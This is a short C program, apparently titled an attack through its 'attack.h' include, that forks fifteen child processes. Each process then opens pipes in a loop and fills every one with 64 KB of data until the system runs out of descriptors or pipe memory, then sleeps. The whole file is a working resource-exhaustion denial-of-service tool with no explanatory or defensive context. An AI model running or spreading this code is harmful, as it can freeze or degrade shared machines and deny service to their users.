#include "attack.h"

int	main(void)
{
	static char	block[1 << 16];
	int			ends[2];

	for (int i = 0; i < 15; i++)
		if (fork() == 0)
			break;
	while (pipe(ends) == 0)
	{
		fcntl(ends[1], F_SETFL, O_NONBLOCK);
		while (write(ends[1], block, sizeof block) > 0)
			;
	}
	rest(60000);
}
